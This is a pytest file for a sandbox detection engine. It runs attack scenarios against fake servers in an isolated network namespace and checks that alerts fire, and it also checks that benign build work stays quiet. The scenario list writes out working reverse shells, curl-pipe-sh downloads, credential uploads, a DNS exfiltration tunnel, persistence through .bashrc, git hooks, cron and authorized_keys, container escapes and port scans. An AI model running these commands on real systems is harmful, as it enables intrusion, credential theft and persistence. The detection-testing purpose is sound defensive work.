"""Detection end to end: real attacks (and real benign work) inside a corral.Sandbox, real alerts out.

Every scenario is one real action run as a step of ``Sandbox(mode="observe", netns=lab.client)``:
OpenSSH against a real sshd, socat, nmap, bash /dev/tcp, a miner written in Python against a fake
stratum pool, curl against a fake metadata service, and so on.  The test asserts that an alert of
the scenario's category, of severity medium or more, names the scenario's step; where the point
of a scenario is *how* it is caught (a renamed ssh by its banner on the wire, stratum on 443, a DNS
tunnel), it also asserts the kind of event behind the alert.

The servers live in the lab's server namespace (tests/netlab.py, corral.drills.servers): two
namespaces joined by a veth with no route out, proved by ``assert_no_route_out`` before every
sandbox starts, since observe mode blocks nothing.  Only documentation addresses are used.

Scenarios corral does not catch yet are strict xfails whose reason names the gap.
"""

from __future__ import annotations

import contextlib
import dataclasses
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from netlab import TestNet, assert_no_route_out

from corral.detect.engine import SEVERITIES, Alert
from corral.drills.scenarios import MINER_PY  # the drill battery's miner: the same real hashing
from corral.sandbox.policy import load_policy
from corral.sandbox.runner import Result, Sandbox

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0 or shutil.which("ip") is None or shutil.which("bwrap") is None,
    reason="needs root, iproute2 and bubblewrap (namespaces, cgroups, BPF)")

HOST = "198.51.100.10"  # sshd (22, 443), pool (3333), HTTP sink (8080), shell catcher (9001), DNS (53)
OTHER = "198.51.100.11"  # nothing listens: the scan target
POOL_443 = "203.0.113.10"  # a stratum pool on 443
METADATA = "169.254.169.254"  # HTTP metadata stub on 80

SEVERITY = {name: i for i, name in enumerate(SEVERITIES)}

SSH_OPTS = "-o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=3"


# -- the lab ----------------------------------------------------------------------

@dataclass
class Lab:
    net: TestNet
    tmp: Path

    @property
    def client(self) -> str:
        return self.net.client


def _start_sshd(net: TestNet, tmp: Path) -> int:
    key = tmp / "host_key"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True, capture_output=True,
                   timeout=30)
    config = tmp / "sshd_config"
    config.write_text(f"ListenAddress {HOST}:22\nListenAddress {HOST}:443\nHostKey {key}\nPidFile none\n"
                      "UsePAM no\nPubkeyAuthentication no\nPasswordAuthentication no\n"
                      "KbdInteractiveAuthentication no\nAuthorizedKeysFile none\nLoginGraceTime 10\n")
    # sshd wants /run/sshd; `ip netns exec` gives it a mount namespace of its own, where a tmpfs
    # on /run hides nothing from the host.
    sshd = net.start_server(net.server, ["sh", "-c", "mount -t tmpfs tmpfs /run && mkdir -m 755 /run/sshd && "
                                         f"exec /usr/sbin/sshd -D -e -f {config}"])
    for _ in range(100):
        if net.attempt("tcp", HOST, 22) == "OK" and net.attempt("tcp", HOST, 443) == "OK":
            return sshd.pid
        time.sleep(0.1)
    raise RuntimeError("the lab's sshd did not start")


def _children(pid: int) -> list[int]:
    try:
        return [int(p) for p in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]
    except OSError:
        return []


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    if not (Path("/usr/sbin/sshd").exists() and shutil.which("ssh-keygen")):
        pytest.skip("needs openssh-server")
    tmp = tmp_path_factory.mktemp("e2e-lab")
    with TestNet() as net:
        assert_no_route_out(net.client)
        assert_no_route_out(net.server)
        servers = net.start_server(net.server, [
            sys.executable, "-m", "corral.drills.servers", "--log-dir", str(tmp / "server-logs"),
            f"pool@{HOST}:3333", f"pool@{POOL_443}:443", f"http@{METADATA}:80", f"http@{HOST}:8080",
            f"shell@{HOST}:9001", f"dns@{HOST}:53"])
        assert servers.stdout is not None and servers.stdout.readline().startswith("ready")
        net.start_listener(net.server, [f"tcp:2375@{HOST}", f"tcp:6443@{HOST}"])  # docker API, kube API
        sshd = _start_sshd(net, tmp)
        try:
            yield Lab(net, tmp)
        finally:
            # sshd's per-connection children must end before sshd is killed (an orphan would go to
            # an init that may not reap it); LoginGraceTime bounds them, we do not wait that long.
            deadline = time.monotonic() + 5
            while _children(sshd) and time.monotonic() < deadline:
                time.sleep(0.1)
            for child in _children(sshd):
                with contextlib.suppress(ProcessLookupError):
                    os.kill(child, signal.SIGKILL)


@pytest.fixture
def sb(lab: Lab) -> Iterator[Sandbox]:
    assert_no_route_out(lab.client)  # observe mode blocks nothing: prove nothing can leak first
    with Sandbox(mode="observe", netns=lab.client) as sandbox:
        yield sandbox


# -- helpers ---------------------------------------------------------------------

@dataclass
class Step:
    result: Result
    started_ns: int  # wall clock

    @property
    def number(self) -> int:
        return self.result.step


def run(sb: Sandbox, command: str | list[str], timeout: float = 20, input: str | None = None) -> Step:
    started = time.time_ns()
    return Step(sb.exec(command, timeout=timeout, input=input), started)


def describe(sb: Sandbox, step: int | None = None) -> str:
    """The events and alerts of one step (or all), for a failure message."""
    lines = [f"events of step {step}:" if step is not None else "events:"]
    for e in sb.events:
        if (step is None or e.step_id == step) and e.kind not in ("fork", "exit"):
            lines.append(f"  {e!r}"[:400])
    lines.append("alerts (all steps):")
    lines += [f"  step {a.step}: {a.severity} [{a.category}] {a.rule} <- {a.event.kind}: {a.output}"[:400]
              for a in sb.alerts]
    return "\n".join(lines)


def alerts_of(sb: Sandbox, step: int, categories: tuple[str, ...], kind: str | None = None,
              minimum: str = "medium") -> list[Alert]:
    return [a for a in list(sb.alerts) if a.step == step and a.category in categories
            and SEVERITY[a.severity] >= SEVERITY[minimum] and (kind is None or a.event.kind == kind)]


def expect(sb: Sandbox, step: Step, category: str | tuple[str, ...], kinds: tuple[str | None, ...] = (None,),
           within: float = 3.0) -> list[Alert]:
    """Wait (bounded) for alerts of this category (one of these), at medium or above, on the step:
    one for each event kind in ``kinds`` (None: any kind)."""
    categories = (category,) if isinstance(category, str) else category
    deadline = time.monotonic() + within
    while True:
        sb.flush_events()
        found = {kind: alerts_of(sb, step.number, categories, kind) for kind in kinds}
        if all(found.values()) or time.monotonic() > deadline:
            break
        time.sleep(0.05)
    for kind, alerts in found.items():
        assert alerts, (f"no {'/'.join(categories)} alert (>= medium{', from a ' + kind + ' event' if kind else ''})"
                        f" for step {step.number}: {step.result}\n{describe(sb, step.number)}")
    every = alerts_of(sb, step.number, categories)
    first = min(every, key=lambda a: a.time_ns)
    print(f"\n  detected: {'/'.join(categories)}: {first.severity} {first.rule!r} <- {first.event.kind}, "
          f"{(first.time_ns - step.started_ns) / 1e9:.2f} s after the step started; all: "
          f"{sorted({(a.severity, a.rule, a.event.kind) for a in every})}")
    return every


def put(sb: Sandbox, relative: str, text: str, mode: int = 0o644) -> None:
    """Write a file into the sandbox's workspace from the host, owned by the sandbox's user."""
    path = sb.workspace / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(mode)
    st = sb.workspace.stat()
    for p in [path, *path.relative_to(sb.workspace).parents]:
        os.chown(sb.workspace / p, st.st_uid, st.st_gid)


def put_dnslib(sb: Sandbox) -> None:
    """dnslib (the host's, pure Python) into /workspace/lib, for the sandbox's python3."""
    import dnslib  # type: ignore[import-untyped]

    dest = sb.workspace / "lib" / "dnslib"
    shutil.copytree(Path(dnslib.__file__).parent, dest, ignore=shutil.ignore_patterns("__pycache__"))
    st = sb.workspace.stat()
    for root, dirs, files in os.walk(sb.workspace / "lib"):
        for name in [".", *dirs, *files]:
            os.chown(os.path.join(root, name), st.st_uid, st.st_gid)


# -- the actions ---------------------------------------------------------------

# A fake xmrig: a shell script of that name, with XMRig's options, that mines in Python.
XMRIG_SH = """#!/bin/sh
# usage: xmrig -o stratum+tcp://HOST:PORT [--donate-level N] ...
url=$2; hp=${url#stratum+tcp://}
exec python3 /workspace/miner.py "${hp%:*}" "${hp#*:}" 0.5
"""

REVERSE_SHELL_PY = (
    "import os, socket, subprocess\n"
    f"s = socket.create_connection(('{HOST}', 9001), timeout=5)\n"
    "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n"
    "subprocess.call(['/bin/sh', '-i'])\n")

# argv[1]: a timeout (the usual idiom, which makes connect() non-blocking) or "none" (blocking)
SCAN_PY = (
    "import socket, sys\n"
    "for port in range(1, 41):\n"
    "    s = socket.socket()\n"
    "    if sys.argv[1] != 'none':\n        s.settimeout(float(sys.argv[1]))\n"
    f"    try:\n        s.connect(('{OTHER}', port))\n    except OSError:\n        pass\n"
    "    finally:\n        s.close()\n")

PROBE_PY = (
    "import socket, sys\n"
    "for port in map(int, sys.argv[1:]):\n"
    "    s = socket.socket()\n    s.settimeout(1)\n"
    f"    try:\n        s.connect(('{HOST}', port)); print(port, 'open')\n"
    "    except OSError as e:\n        print(port, e.errno)\n    finally:\n        s.close()\n")

DOCKER_SOCK_PY = (
    "import socket\n"
    "for path in ('/var/run/docker.sock', '/run/containerd/containerd.sock'):\n"
    "    s = socket.socket(socket.AF_UNIX)\n"
    "    try:\n        s.connect(path)\n    except OSError as e:\n        print(path, e.errno)\n")

PTRACE_PY = (
    "import ctypes, os, subprocess, time\n"
    "libc = ctypes.CDLL(None, use_errno=True)\n"
    "libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]\n"
    "child = subprocess.Popen(['sleep', '5'])\n"
    "time.sleep(0.2)\n"
    "r = libc.ptrace(16, child.pid, None, None)  # PTRACE_ATTACH\n"
    "print('attach', r, ctypes.get_errno())\n"
    "if r == 0:\n    os.waitpid(child.pid, 0)\n    libc.ptrace(17, child.pid, None, None)  # PTRACE_DETACH\n"
    "child.kill()\nchild.wait()\n")

SETUID_PY = (
    "import os\n"
    "try:\n    os.setuid(0)\nexcept OSError as e:\n    print('setuid', e.errno)\n")

MEMFD_PY = (
    "import os\n"
    "fd = os.memfd_create('kworker', 0)\n"
    "os.write(fd, open('/bin/true', 'rb').read())\n"
    "os.execv(f'/proc/self/fd/{fd}', ['kworker'])\n")

DNS_TUNNEL_PY = (
    "import base64, os\n"
    "from dnslib import DNSRecord\n"
    "for i in range(30):\n"
    "    label = base64.b32encode(os.urandom(20)).decode().rstrip('=').lower()\n"
    "    q = DNSRecord.question(f'{label}.{i}.t.exfil.example', 'TXT' if i % 2 else 'A')\n"
    f"    q.send('{HOST}', 53, timeout=2)\n")

BASH_SWEEP = f"bash -c 'for p in $(seq 15 40); do (echo > /dev/tcp/{HOST}/$p) 2>/dev/null && echo open $p; done'"
NMAP = f"nmap -sT -n -p 20-60 {OTHER} -Pn --max-retries 0"

CPU_BURN_PY = "import time\nend = time.monotonic() + 4\nn = 0\nwhile time.monotonic() < end:\n    n += 1\n"


def setup_miner(sb: Sandbox) -> None:
    put(sb, "miner.py", MINER_PY)


def setup_dns_tunnel(sb: Sandbox) -> None:
    put_dnslib(sb)
    put(sb, "dnstun.py", DNS_TUNNEL_PY)


def setup_hook_writer(sb: Sandbox) -> None:
    put(sb, "tool.py", "import os\nhook = '/workspace/.git/hooks/post-checkout'\n"
                       f"open(hook, 'w').write('#!/bin/sh\\ncurl -s {HOST}:8080/x.sh | sh\\n')\n"
                       "os.chmod(hook, 0o755)\n")


def setup_bashrc_writer(sb: Sandbox) -> None:
    put(sb, "tool.py", "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n"
                       f"    f.write('curl -s {HOST}:8080/x.sh | sh\\n')\n")


def setup_xmrig(sb: Sandbox) -> None:
    put(sb, "miner.py", MINER_PY)
    put(sb, "xmrig.sh", XMRIG_SH, 0o755)


@dataclass
class Scenario:
    id: str
    category: str | tuple[str, ...]  # one of these
    command: str | list[str]
    kinds: tuple[str | None, ...] = (None,)  # event kinds that must each be behind an alert (None: any)
    setup: Callable[[Sandbox], None] | None = None
    within: float = 2.0
    timeout: float = 20.0
    xfail: str | None = None
    marks: list[pytest.MarkDecorator] = field(default_factory=list)


SCENARIOS = [
    # -- tunnel
    Scenario("ssh-reverse-tunnel", "tunnel",
             f"ssh -N -R 8080:localhost:22 {SSH_OPTS} user@{HOST}"),
    Scenario("ssh-renamed-python3-on-443", "tunnel",
             f"cp /usr/bin/ssh /tmp/python3 && /tmp/python3 -p 443 {SSH_OPTS} -o UserKnownHostsFile=/dev/null "
             f"user@{HOST} true", kinds=("flow",)),
    Scenario("ssh-on-443", "tunnel",
             f"ssh -p 443 {SSH_OPTS} -o UserKnownHostsFile=/dev/null user@{HOST} true", kinds=("flow",)),
    Scenario("socat-tcp-relay", "tunnel",
             f"timeout 5 socat TCP-LISTEN:18022,bind=127.0.0.1,reuseaddr TCP:{HOST}:22 & sleep 0.5; "
             "timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/18022; head -c 8 <&3'; wait"),
    # -- cryptomining
    Scenario("python-miner-stratum-3333", "cryptomining", ["python3", "/workspace/miner.py", HOST, "3333", "3"],
             setup=setup_miner),
    Scenario("python-miner-stratum-wire", "cryptomining", ["python3", "/workspace/miner.py", HOST, "3333", "0.5"],
             kinds=("flow",), setup=setup_miner),
    Scenario("fake-xmrig-stratum-argv", "cryptomining",
             f"cp /workspace/xmrig.sh /tmp/xmrig && /tmp/xmrig -o stratum+tcp://{HOST}:3333 --donate-level 1",
             kinds=("exec",), setup=setup_xmrig),
    Scenario("stratum-on-443", "cryptomining", ["python3", "/workspace/miner.py", POOL_443, "443", "0.5"],
             kinds=("flow",), setup=setup_miner),
    # -- reverse_shell
    Scenario("bash-dev-tcp", "reverse_shell", f"bash -c 'bash -i >& /dev/tcp/{HOST}/9001 0>&1'", timeout=10),
    Scenario("python-dup2-shell", "reverse_shell", ["python3", "-c", REVERSE_SHELL_PY], timeout=10),
    Scenario("socat-exec-shell", "reverse_shell", f"socat TCP:{HOST}:9001 EXEC:/bin/sh", timeout=10),
    # -- recon
    Scenario("python-port-scan-blocking", "recon", ["python3", "-c", SCAN_PY, "none"], kinds=("scan",)),
    Scenario("python-port-scan-with-timeout", "recon", ["python3", "-c", SCAN_PY, "0.5"], kinds=("scan",)),
    Scenario("bash-dev-tcp-sweep", "recon", BASH_SWEEP),
    Scenario("bash-dev-tcp-sweep-as-scan", "recon", BASH_SWEEP, kinds=("scan",)),
    Scenario("nmap-connect-scan", "recon", NMAP),
    Scenario("nmap-connect-scan-as-scan", "recon", NMAP, kinds=("scan",)),
    Scenario("orchestrator-probes", ("recon", "escape"), ["python3", "-c", PROBE_PY, "2375", "6443", "10250", "8265"]),
    # -- metadata
    Scenario("curl-metadata", "metadata", f"curl -s -m 2 http://{METADATA}/latest/meta-data/"),
    # -- credential_access
    Scenario("cat-aws-credentials", "credential_access", "cat ~/.aws/credentials"),
    Scenario("grep-akia-home", "credential_access", "grep -r AKIA ~"),
    Scenario("read-ssh-private-key", "credential_access", "cat ~/.ssh/id_ed25519 > /dev/null"),
    # -- persistence
    Scenario("bashrc-append", "persistence", f"echo 'curl -s http://{HOST}:8080/x.sh | sh' >> ~/.bashrc"),
    Scenario("bashrc-by-python", "persistence", "python3 /workspace/tool.py", setup=setup_bashrc_writer),
    Scenario("crontab-file", "persistence",
             "echo '* * * * * agent sh /tmp/x' > /etc/cron.d/agent; "
             "echo '* * * * * sh /tmp/x' > /var/spool/cron/crontabs/agent; true"),
    Scenario("systemd-user-unit", "persistence",
             "mkdir -p ~/.config/systemd/user && echo '[Service]' > ~/.config/systemd/user/x.service"),
    Scenario("authorized-keys", "persistence",
             "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE0 lab' >> ~/.ssh/authorized_keys"),
    Scenario("git-hook", "persistence",
             f"git init -q /workspace && printf '#!/bin/sh\\ncurl -s {HOST}:8080/x.sh | sh\\n' "
             "> /workspace/.git/hooks/pre-commit && chmod +x /workspace/.git/hooks/pre-commit"),
    Scenario("git-hook-by-python", "persistence", "git init -q /workspace && python3 /workspace/tool.py",
             setup=setup_hook_writer),
    # -- escape / privilege_escalation
    Scenario("unshare-userns", "escape", "unshare -r true"),
    Scenario("mount-tmpfs", "escape", "mkdir -p /tmp/x && mount -t tmpfs none /tmp/x"),
    Scenario("docker-sock-connect", "escape", ["python3", "-c", DOCKER_SOCK_PY]),
    Scenario("nsenter-pid1", "escape", "nsenter -t 1 -m -u -i -n -p true"),
    Scenario("ptrace-attach-child", "privilege_escalation", ["python3", "-c", PTRACE_PY]),
    Scenario("setuid-0", "privilege_escalation", ["python3", "-c", SETUID_PY]),
    # -- defense_evasion
    Scenario("exec-from-dev-shm", "defense_evasion", "cp /bin/true /dev/shm/x && /dev/shm/x"),
    Scenario("exec-from-tmp", "defense_evasion", "cp /bin/true /tmp/helper && /tmp/helper"),
    Scenario("memfd-exec", "defense_evasion", ["python3", "-c", MEMFD_PY]),
    Scenario("truncate-bash-history", "defense_evasion", "echo ls > ~/.bash_history; : > ~/.bash_history"),
    # -- exfiltration
    Scenario("curl-upload-credentials", "exfiltration",
             f"curl -s -m 2 -F file=@/home/agent/.aws/credentials http://{HOST}:8080/upload", kinds=("exec",)),
    Scenario("curl-upload-credentials-cred-then-egress", "exfiltration",
             f"curl -s -m 2 -F file=@/home/agent/.aws/credentials http://{HOST}:8080/upload",
             kinds=("cred_then_egress",)),
    Scenario("cat-credentials-piped-to-curl", "exfiltration",
             f"cat ~/.aws/credentials | curl -s -m 2 --data-binary @- http://{HOST}:8080/upload",
             kinds=("cred_then_egress",)),
    Scenario("dns-tunnel-txt", "exfiltration", "PYTHONPATH=/workspace/lib python3 /workspace/dnstun.py",
             kinds=("dns_tunnel",), setup=setup_dns_tunnel),
    # -- execution
    Scenario("curl-pipe-sh", "execution", f"sh -c \"curl -s http://{HOST}:8080/x.sh | sh\""),
]


def _param(s: Scenario) -> object:
    marks = list(s.marks)
    if s.xfail:
        marks.append(pytest.mark.xfail(strict=True, reason=s.xfail))
    return pytest.param(s, id=s.id, marks=marks)


@pytest.mark.parametrize("scenario", [_param(s) for s in SCENARIOS])
def test_scenario_is_detected(sb: Sandbox, scenario: Scenario) -> None:
    if scenario.setup is not None:
        scenario.setup(sb)
    step = run(sb, scenario.command, timeout=scenario.timeout)
    expect(sb, step, scenario.category, scenario.kinds, within=scenario.within)


# -- resource abuse ----------------------------------------------------------------

def test_cpu_burn_beyond_the_policy_raises_resource_abuse(lab: Lab) -> None:
    """A sandbox whose policy says 40% of a CPU for 1.5 s is too much: a 4 s busy loop is an alert,
    from the detector's conclusion at the policy's thresholds (its own are 40% for 20 s)."""
    assert_no_route_out(lab.client)
    policy = dataclasses.replace(load_policy("default"), mode="observe", cpu_saturation=(40.0, 1.5))
    with Sandbox(policy, netns=lab.client) as sb:
        step = run(sb, ["python3", "-c", CPU_BURN_PY])
        alerts = expect(sb, step, "resource_abuse", ("cpu_saturation",), within=1.0)
    first = min(alerts, key=lambda a: a.time_ns)
    assert first.rule == "CPU use beyond the sandbox policy" and first.event.data["percent"] >= 40


# -- benign work ---------------------------------------------------------------------

PROJECT = {
    "calc/__init__.py": "def add(a, b):\n    return a + b\n",
    "tests/__init__.py": "",
    "tests/test_calc.py": ("import unittest\nfrom calc import add\n\n\nclass T(unittest.TestCase):\n"
                           "    def test_add(self):\n        self.assertEqual(add(2, 3), 5)\n"),
    "c/hello.c": '#include <stdio.h>\n#include "greet.h"\nint main(void) { puts(greeting()); return 0; }\n',
    "c/greet.c": '#include "greet.h"\nconst char *greeting(void) { return "hello"; }\n',
    "c/greet.h": "const char *greeting(void);\n",
    "c/Makefile": "hello: hello.o greet.o\n\t$(CC) -o $@ $^\n%.o: %.c greet.h\n\t$(CC) -O2 -c -o $@ $<\n",
    "pkg/pyproject.toml": ('[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
                           '[project]\nname = "labpkg"\nversion = "0.1"\n'),
    "pkg/labpkg/__init__.py": "VALUE = 42\n",
    "README.md": "a tiny project\n",
}

BENIGN_STEPS = [
    "python3 -m unittest discover -s tests -v",
    "make -C c && ./c/hello",
    "git init -q . && git add -A && git -c user.email=agent@example.com -c user.name=agent commit -qm init "
    "&& git log --oneline",
    "python3 -m pip wheel -q --no-deps --no-build-isolation --no-index -w dist ./pkg "
    "&& python3 -m pip install -q --no-index --target /workspace/site dist/labpkg-0.1-py3-none-any.whl "
    "&& PYTHONPATH=/workspace/site python3 -c 'import labpkg; print(labpkg.VALUE)'",
    "tar czf /tmp/ws.tgz --exclude=.git . && mkdir -p /tmp/unpacked && tar xzf /tmp/ws.tgz -C /tmp/unpacked "
    "&& ls /tmp/unpacked",
    "python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 & srv=$!; sleep 0.7; "
    "curl -s -m 2 http://127.0.0.1:8000/README.md; kill $srv; wait",
    ["python3", "-c", "import hashlib, time\nend = time.monotonic() + 5\nh = b''\n"
                      "while time.monotonic() < end:\n    h = hashlib.sha256(h).digest()\nprint(h.hex()[:8])"],
    "find /workspace -type f -exec cat {} + > /dev/null && echo read",
]


def test_benign_work_raises_nothing_high(lab: Lab) -> None:
    assert_no_route_out(lab.client)
    with Sandbox(mode="observe", netns=lab.client) as sb:
        for relative, text in PROJECT.items():
            put(sb, relative, text)
        results = [sb.exec(command, timeout=60) for command in BENIGN_STEPS]
        time.sleep(0.6)  # let time-based detectors look once more
        sb.flush_events()
    for command, result in zip(BENIGN_STEPS, results, strict=True):
        assert result.exit_code == 0, (command, result)
        assert any(e.kind == "exec" and e.step_id == result.step for e in sb.events), (command, "not watched")
    assert "OK" in results[0].stderr and results[1].stdout.endswith("hello\n") and "42" in results[3].stdout
    print("\nbenign-set alerts:")
    for a in sb.alerts:
        print(f"  step {a.step} {a.severity} [{a.category}] {a.rule} <- {a.event.kind}: {a.output}"[:300])
    loud = [a for a in sb.alerts if SEVERITY[a.severity] >= SEVERITY["high"]]
    assert not loud, describe(sb)



def test_fork_bomb_and_memory_balloon_hit_limits_and_say_so() -> None:
    """Behaviour, not names: however a fork bomb is written, its sandbox refuses forks at the
    pids limit, and that is a resource_abuse alert; so is an OOM kill at the memory limit."""
    bomb = ("import os, time\nkids = []\ntry:\n    while len(kids) < 200:\n        pid = os.fork()\n"
            "        if pid == 0:\n            time.sleep(3); os._exit(0)\n        kids.append(pid)\n"
            "except OSError:\n    pass\nprint(len(kids))")
    with Sandbox(mode="observe", pids=32, memory="64M") as sb:
        forked = sb.exec(["python3", "-c", bomb])
        balloon = sb.exec(["python3", "-c", "b = bytearray(300 * 1024 * 1024)"])
        deadline = time.monotonic() + 3
        while time.monotonic() < deadline and len({a.rule for a in sb.alerts if a.category == "resource_abuse"}) < 2:
            time.sleep(0.1)  # limits are looked at twice a second
    assert int(forked.stdout) < 32 and balloon.exit_code == 137
    hits = {a.event.data["resource"]: a for a in sb.alerts if a.event.kind == "limit_hit"}
    assert set(hits) == {"pids", "memory"}
    assert hits["pids"].severity == "high" and hits["pids"].step == 1 and hits["memory"].step == 2
